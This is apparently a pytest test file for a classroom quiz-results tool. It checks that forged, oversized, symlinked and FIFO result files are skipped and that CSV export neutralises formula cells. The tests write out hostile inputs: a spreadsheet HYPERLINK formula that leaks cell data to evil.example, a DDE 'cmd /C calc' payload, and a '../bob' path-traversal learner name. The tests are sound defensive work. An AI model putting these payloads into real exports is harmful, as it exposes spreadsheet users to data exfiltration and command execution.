"""The class's results can be trusted (issue 16): whose a file is, what numbers it may hold, what is read at
all, what a spreadsheet runs, and where a queued attempt goes. Folders are real local folders (a FIFO, a
symlink to /dev/zero); object stores are the tests' moto server through s3fs."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import subprocess
import sys
import tracemalloc
import warnings
from collections.abc import Iterator
from pathlib import Path

import pytest
from class_data import EXAM, results, write_class
from s3_server import FaultProxy, S3Server

from quiz_widgets import ClassView
from quiz_widgets.cli import main as cli_main
from quiz_widgets.store.atomic import MAX_FILE_BYTES
from quiz_widgets.store.csv_cells import csv_text, safe_cell
from quiz_widgets.teaching.collect import Collector
from quiz_widgets.teaching.live import class_snapshot
from quiz_widgets.teaching.report import ClassReport

BUCKET = "trust"
HERE = Path(__file__).resolve().parent


@pytest.fixture
def s3(tmp_path: Path) -> Iterator[S3Server]:
    server = S3Server(log_dir=tmp_path).start()
    server.make_bucket(BUCKET)
    yield server
    server.stop()


def _upload(s3: S3Server, folder: Path, prefix: str) -> None:
    import fsspec

    fs = fsspec.filesystem("s3", skip_instance_cache=True, **s3.storage_options())
    for path in sorted(folder.rglob("*.json")):
        fs.pipe_file(f"{BUCKET}/{prefix}/{path.relative_to(folder).as_posix()}", path.read_bytes())


def _forge(root: Path) -> tuple[Path, Path]:
    """aaron (sorted before ada) plants two attempts naming ada: a copy of her real one with a better time
    (same learner, exam, date and score: the duplicate check's key) and one she never made."""
    real = json.loads(next((root / "ada").glob("*.json")).read_text(encoding="utf-8"))
    (root / "aaron").mkdir()
    copy = root / "aaron" / "quiz_results_copy.json"
    real["session_info"]["time_taken_seconds"] = 1
    copy.write_text(json.dumps(real), encoding="utf-8")
    never = results("cy", day=5)
    never["learner"] = "ada"
    extra = root / "aaron" / "quiz_results_never.json"
    extra.write_text(json.dumps(never), encoding="utf-8")
    return copy, extra


def _messages(record: list[warnings.WarningMessage]) -> list[str]:
    return [str(w.message) for w in record]


# -- 1. the folder decides whose a file is ------------------------------------------------------------


def test_a_file_naming_another_learner_is_skipped_and_cannot_hide_hers(tmp_path: Path) -> None:
    root = write_class(tmp_path / "cs101")
    copy, extra = _forge(root)
    with pytest.warns(UserWarning) as record:
        report = ClassReport.load(root)
    rows = [r for r in report.attempt_rows() if r["learner"] == "ada"]
    assert len(rows) == 1  # not the attempt she never made
    assert rows[0]["source"].startswith(str(root / "ada")) and rows[0]["elapsed_seconds"] == 100
    assert sorted(r["learner"] for r in report.attempt_rows()) == ["ada", "bob", "cy", "dee", "eve"]
    for forged in (copy, extra):
        assert any(
            str(forged) in m and "field 'learner'" in m and "'ada'" in m and "'aaron'" in m
            for m in _messages(record)
        )
    assert len(report.skipped) == 2


def test_a_file_named_directly_yields_to_the_copy_in_her_folder(tmp_path: Path) -> None:
    root = write_class(tmp_path / "cs101")
    loose = tmp_path / "loose.json"  # no folder vouches for it: its own "learner" is all there is
    data = json.loads(next((root / "ada").glob("*.json")).read_text(encoding="utf-8"))
    data["session_info"]["time_taken_seconds"] = 1
    loose.write_text(json.dumps(data), encoding="utf-8")
    with pytest.warns(UserWarning, match="found twice"):
        report = ClassReport.load(loose, root)
    ada = [r for r in report.attempt_rows() if r["learner"] == "ada"]
    assert len(ada) == 1 and ada[0]["source"].startswith(str(root / "ada"))


def test_forged_objects_under_another_prefix_are_skipped(s3: S3Server, tmp_path: Path) -> None:
    root = write_class(tmp_path / "cs101")
    _forge(root)
    _upload(s3, root, "cs101")
    with pytest.warns(UserWarning) as record:
        report = ClassReport.load(f"s3://{BUCKET}/cs101", storage_options=s3.storage_options())
    assert [r["learner"] for r in report.attempt_rows()].count("ada") == 1
    skipped = sorted(name for name, _ in report.skipped)
    assert skipped == [f"s3://{BUCKET}/cs101/aaron/quiz_results_copy.json",
                       f"s3://{BUCKET}/cs101/aaron/quiz_results_never.json"]  # fmt: skip
    assert sum("field 'learner'" in m and "s3://trust/cs101/aaron/" in m for m in _messages(record)) == 2


def test_cli_report_skips_a_forged_file_and_names_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = write_class(tmp_path / "cs101")
    copy, extra = _forge(root)
    assert cli_main(["report", str(root), "--csv", str(tmp_path / "csv")]) == 0
    out, err = capsys.readouterr()
    assert "5 attempts by 5 learners\nread 7 of 7 files; skipped 2\n" in out
    assert f"skipped {copy}: " in err and f"skipped {extra}: " in err and "field 'learner'" in err
    with open(tmp_path / "csv" / "attempts.csv", encoding="utf-8") as fh:
        assert [r["learner"] for r in csv.DictReader(fh)].count("ada") == 1


def test_class_view_counts_no_attempt_for_a_learner_who_never_finished(
    tmp_path: Path, recording_comms: list
) -> None:
    root = write_class(tmp_path / "cs101")
    for file in (root / "ada").iterdir():
        file.unlink()  # ada has not finished
    forged = results("ada")
    (root / "aaron").mkdir()
    (root / "aaron" / "quiz_results_x.json").write_text(json.dumps(forged), encoding="utf-8")
    with pytest.warns(UserWarning) as record:
        view = ClassView(root, refresh=5)
    quiz = view.snapshot["quizzes"][0]
    assert (quiz["exam"], quiz["finished"], quiz["attempts"]) == (EXAM, 4, 4)
    assert view.snapshot["skipped"] == 1
    assert view.snapshot["skipped_files"][0]["file"] == str(root / "aaron" / "quiz_results_x.json")
    assert any(
        "class view: skipped" in m and "aaron" in m and "field 'learner'" in m for m in _messages(record)
    )
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # the same file is not warned about again on every refresh
        view.refresh_now()


# -- 2. every number bounded ----------------------------------------------------------------------


def _hostile(root: Path, name: str, **changes: object) -> Path:
    data = results("bob")
    for dotted, value in changes.items():
        *parents, key = dotted.split("__")
        target = data
        for part in parents:
            target = target[part]
        target[key] = value
    (root / "mallory").mkdir(exist_ok=True)
    path = root / "mallory" / name
    data["learner"] = "mallory"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"performance__score": 10**400, "performance__total_answered": 10**400}, "performance.score"),
        ({"exam_info__total_questions": 10**400}, "exam_info.total_questions"),
        ({"performance__score": 1e300, "performance__total_answered": 1e300}, "performance.score"),
        ({"performance__total_answered": -(10**400)}, "performance.total_answered"),
    ],
    ids=["400-digit-score", "400-digit-total", "1e300-score", "huge-negative"],
)
def test_a_number_out_of_bounds_skips_its_file(tmp_path: Path, changes: dict, field: str) -> None:
    root = write_class(tmp_path / "cs101")
    bad = _hostile(root, "quiz_results_1.json", **changes)
    _hostile(root, "quiz_results_2.json", **changes)  # two such files: the statistics see both
    with pytest.warns(UserWarning) as record:
        report = ClassReport.load(root)
    assert any(
        str(bad) in m and field in m and "a whole number from 0 to 100,000" in m for m in _messages(record)
    )
    assert len(report.attempt_rows()) == 5 and len(report.skipped) == 2
    report.to_csv(tmp_path / "csv")
    report.to_html(tmp_path / "r.html")


def test_times_and_ids_a_spreadsheet_or_sort_would_choke_on(tmp_path: Path) -> None:
    root = write_class(tmp_path / "cs101")
    _hostile(root, "quiz_results_t.json", session_info__time_taken_seconds=10**400)
    weird = results("bob")
    weird["learner"] = "zed"
    weird["quiz_widgets"]["answers"][0]["question_id"] = "²"  # a digit to isdigit(), not to int()
    weird["quiz_widgets"]["answers"][1]["seconds"] = 10**400
    (root / "zed").mkdir()
    (root / "zed" / "quiz_results_z.json").write_text(json.dumps(weird), encoding="utf-8")
    report = ClassReport.load(root)
    rows = {r["learner"]: r for r in report.attempt_rows()}
    assert rows["mallory"]["score"] == 3 and math.isnan(rows["mallory"]["elapsed_seconds"])
    assert "²" in {r["question_id"] for r in report.question_rows()}
    report.to_csv(tmp_path / "csv")
    report.to_html(tmp_path / "r.html")


def test_a_topic_cannot_claim_more_right_than_it_had(tmp_path: Path) -> None:
    root = write_class(tmp_path / "cs101")
    data = results("bob")
    data["learner"] = "mallory"
    del data["quiz_widgets"]["answers"]
    data["quiz_widgets"]["topics"] = [{"topic": "geo", "correct": 50, "total": 2}]
    (root / "mallory").mkdir()
    (root / "mallory" / "quiz_results_t.json").write_text(json.dumps(data), encoding="utf-8")
    with pytest.warns(
        UserWarning, match=r"topics\[0\]\.correct': found 50, expected at most its total \(2\)"
    ):
        report = ClassReport.load(root)
    assert all(t["accuracy"] <= 1 for t in report.topic_rows())


def test_an_open_class_view_keeps_refreshing_past_a_hostile_file(
    tmp_path: Path, recording_comms: list
) -> None:
    root = write_class(tmp_path / "cs101")
    bad = _hostile(
        root, "quiz_results_1.json", performance__score=10**400, performance__total_answered=10**400
    )
    with pytest.warns(UserWarning, match="class view: skipped .*quiz_results_1.json"):
        view = ClassView(root, refresh=5)
    assert view.snapshot["quizzes"][0]["finished"] == 5 and view.snapshot["skipped"] == 1
    (root / "fay").mkdir()
    fay = results("ada")
    fay["learner"] = "fay"
    (root / "fay" / "quiz_results_f.json").write_text(json.dumps(fay), encoding="utf-8")
    bad.with_name("quiz_results_3.json").write_bytes(bad.read_bytes())
    with pytest.warns(UserWarning, match="quiz_results_3.json"):
        view.refresh_now()
    assert view.error == "" and view.snapshot["quizzes"][0]["finished"] == 6 and view.snapshot["skipped"] == 2


# -- 3. what is read at all -------------------------------------------------------------------------

_READER = """
import json, resource, sys, warnings
resource.setrlimit(resource.RLIMIT_AS, (1536 * 2**20, 1536 * 2**20))
from quiz_widgets.teaching.report import ClassReport
from quiz_widgets.teaching.live import class_snapshot
with warnings.catch_warnings(record=True) as caught:
    warnings.simplefilter("always")
    report = ClassReport.load(sys.argv[1])
snap = class_snapshot(sys.argv[1])
print(json.dumps({"learners": sorted(r["learner"] for r in report.attempt_rows()),
                  "skipped": report.skipped, "warnings": [str(w.message) for w in caught],
                  "view_skipped": snap["skipped_files"]}))
"""


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
def test_a_fifo_and_symlinks_in_a_shared_folder_are_never_read(tmp_path: Path) -> None:
    root = write_class(tmp_path / "cs101")
    (root / "mallory").mkdir()
    os.mkfifo(root / "mallory" / "quiz_results_fifo.json")
    os.mkfifo(root / "mallory" / "progress_fifo.json")
    os.symlink("/dev/zero", root / "mallory" / "quiz_results_zero.json")
    os.symlink("/dev/zero", root / "mallory" / "progress_zero.json")
    secret = tmp_path / "instructor_only.json"  # readable by the instructor, not by mallory
    data = results("ada")
    data["learner"] = "mallory"
    secret.write_text(json.dumps(data), encoding="utf-8")
    os.symlink(secret, root / "mallory" / "quiz_results_link.json")
    # A learner folder that is a symlink to another folder is not walked into either.
    os.symlink(root / "ada", root / "ada2")
    # The reader runs in its own process with a memory ceiling: it must neither block nor fill memory.
    proc = subprocess.run(
        [sys.executable, "-c", _READER, str(root)], capture_output=True, text=True, timeout=120, cwd=HERE
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    assert out["learners"] == ["ada", "bob", "cy", "dee", "eve"]
    why = dict(out["skipped"])
    assert why[str(root / "mallory" / "quiz_results_fifo.json")].startswith("a FIFO, not a regular file")
    assert why[str(root / "mallory" / "quiz_results_zero.json")].startswith("a symlink, not a regular file")
    assert why[str(root / "mallory" / "quiz_results_link.json")].startswith("a symlink, not a regular file")
    assert sum("quiz_results_fifo.json" in m for m in out["warnings"]) == 1
    view = {e["file"]: e["why"] for e in out["view_skipped"]}
    assert view[str(root / "mallory" / "progress_fifo.json")].startswith("a FIFO")
    assert view[str(root / "mallory" / "progress_zero.json")].startswith("a symlink")


def test_a_results_file_named_directly_may_be_a_symlink_but_not_to_a_device(tmp_path: Path) -> None:
    real = tmp_path / "real.json"
    real.write_text(json.dumps(results("ada")), encoding="utf-8")
    os.symlink(real, tmp_path / "link.json")
    assert ClassReport.load(tmp_path / "link.json").attempt_rows()[0]["learner"] == "ada"
    os.symlink("/dev/zero", tmp_path / "zero.json")
    with pytest.warns(UserWarning, match=r"zero\.json: a device, not a regular file"):
        assert ClassReport.load(tmp_path / "zero.json").attempt_rows() == []


def test_a_local_file_over_the_cap_is_not_read(tmp_path: Path) -> None:
    root = write_class(tmp_path / "cs101")
    (root / "mallory").mkdir()
    big = root / "mallory" / "quiz_results_big.json"
    with open(big, "wb") as fh:
        fh.truncate(MAX_FILE_BYTES + 1)  # sparse: costs the disk nothing
    tracemalloc.start()
    try:
        with pytest.warns(
            UserWarning, match=r"quiz_results_big\.json: 20,971,521 bytes; expected a file of at most"
        ):
            report = ClassReport.load(root)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(report.attempt_rows()) == 5 and peak < MAX_FILE_BYTES // 4


def test_an_object_over_the_cap_is_never_fetched(s3: S3Server, tmp_path: Path) -> None:
    import fsspec

    root = write_class(tmp_path / "cs101")
    _upload(s3, root, "cs101")
    fs = fsspec.filesystem("s3", skip_instance_cache=True, **s3.storage_options())
    fs.pipe_file(f"{BUCKET}/cs101/mallory/quiz_results_big.json", b" " * (MAX_FILE_BYTES + 1))
    fs.pipe_file(f"{BUCKET}/cs101/mallory/progress_big.json", b" " * (MAX_FILE_BYTES + 1))
    fs.pipe_file(f"{BUCKET}/cs101/mallory/quiz_results_empty.json", b"")
    url = f"s3://{BUCKET}/cs101"
    # The client first (botocore's service models cost megabytes once per process), then the measurement.
    fsspec.filesystem("s3", **s3.storage_options()).ls(BUCKET)
    tracemalloc.start()
    try:
        with pytest.warns(UserWarning) as record:
            report = ClassReport.load(url, storage_options=s3.storage_options())
        snap = class_snapshot(url, s3.storage_options())
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert sorted(r["learner"] for r in report.attempt_rows()) == ["ada", "bob", "cy", "dee", "eve"]
    assert any(
        "s3://trust/cs101/mallory/quiz_results_big.json: 20,971,521 bytes; expected a file of at most" in m
        for m in _messages(record)
    )
    assert any("quiz_results_empty.json" in m and "empty" in m for m in _messages(record))
    assert "s3://trust/cs101/mallory/progress_big.json" in {e["file"] for e in snap["skipped_files"]}
    assert peak < MAX_FILE_BYTES // 2  # neither big object was fetched (one fetch alone is 20 MB)


# -- 4. CSV cells a spreadsheet would run -----------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_text(start: str) -> None:
    assert safe_cell(f'{start}HYPERLINK("https://evil.example/?"&A1,"x")').startswith(f"'{start}")
    assert safe_cell("Paris") == "Paris" and safe_cell(-0.25) == -0.25 and safe_cell(None) is None
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b"], [[f"{start}1+1", -3]]), newline="")))
    assert rows[1] == [f"'{start}1+1", "-3"] and len(rows) == 2  # a CR or tab inside splits no row


def test_report_csv_neutralises_learner_text(tmp_path: Path) -> None:
    root = write_class(tmp_path / "cs101")
    payload = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    for learner in ("bob", "cy"):  # the most chosen wrong answer of question 4
        path = next((root / learner).glob("*.json"))
        data = json.loads(path.read_text(encoding="utf-8"))
        for entry in data["quiz_widgets"]["answers"]:
            if entry["question_id"] == 4:
                entry["your_answer"] = payload
        path.write_text(json.dumps(data), encoding="utf-8")
    evil = results("ada")
    evil["learner"] = "@SUM(1+1)"  # a folder name a learner may have
    evil["exam_info"]["title"] = "+cmd|' /C calc'!A0"
    (root / "@SUM(1+1)").mkdir()
    (root / "@SUM(1+1)" / "quiz_results_e.json").write_text(json.dumps(evil), encoding="utf-8")
    ClassReport.load(root).to_csv(tmp_path / "csv")
    cells = []
    for name in ("attempts", "questions", "topics", "learners"):
        with open(tmp_path / "csv" / f"{name}.csv", encoding="utf-8", newline="") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    assert f"'{payload}" in cells and "'@SUM(1+1)" in cells and "'+cmd|' /C calc'!A0" in cells
    assert [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")] == []
    assert all(float(c) < 0 for c in cells if c[:1] == "-")  # a computed negative number stays a number


# -- 9. a queued attempt goes to its own learner's folder -------------------------------------------


def test_a_queued_attempt_goes_to_its_own_learners_folder(tmp_path: Path) -> None:
    shared = tmp_path / "class"
    home = tmp_path / "lab-machine"  # one base_dir, two learners taking turns
    ada = Collector(str(shared), learner="ada", base_dir=home, background=False)
    data = results("ada")
    del data["learner"]
    assert ada.submit(data, "a1").startswith("queued: ")  # the shared folder is not mounted yet
    shared.mkdir()
    bob = Collector(str(shared), learner="bob", base_dir=home, background=False)
    assert bob.flush() == "delivered"
    assert sorted(p.relative_to(shared).as_posix() for p in shared.rglob("*.json")) == ["ada/a1.json"]
    assert ClassReport.load(shared).attempt_rows()[0]["learner"] == "ada"


def test_a_queued_object_goes_under_its_own_learners_prefix(s3: S3Server, tmp_path: Path) -> None:
    url = f"s3://{BUCKET}/c"
    proxy = FaultProxy(s3.port)
    proxy.refuse_puts = True
    try:
        ada = Collector(url, learner="ada", base_dir=tmp_path, storage_options=s3.storage_options(proxy.endpoint),
                        background=False, timeout=2)  # fmt: skip
        data = results("ada")
        del data["learner"]
        assert ada.submit(data, "a1").startswith("queued: ")
    finally:
        proxy.close()
    bob = Collector(
        url, learner="bob", base_dir=tmp_path, storage_options=s3.storage_options(), background=False
    )
    assert bob.flush() == "delivered"
    assert s3.keys(BUCKET) == ["c/ada/a1.json"]


def test_an_outbox_item_naming_no_valid_learner_is_set_aside(tmp_path: Path) -> None:
    shared = tmp_path / "class"
    shared.mkdir()
    bob = Collector(str(shared), learner="bob", base_dir=tmp_path, background=False)
    bob.outbox.mkdir(parents=True)
    item = results("ada")
    item["learner"] = "../bob"
    (bob.outbox / "x1.json").write_text(json.dumps(item), encoding="utf-8")
    with pytest.warns(RuntimeWarning, match=r"x1\.json: field 'learner': found '\.\./bob'.*not sent"):
        assert bob.flush() == "delivered"
    assert list(shared.iterdir()) == [] and (bob.outbox / ".undeliverable-x1.json").exists()
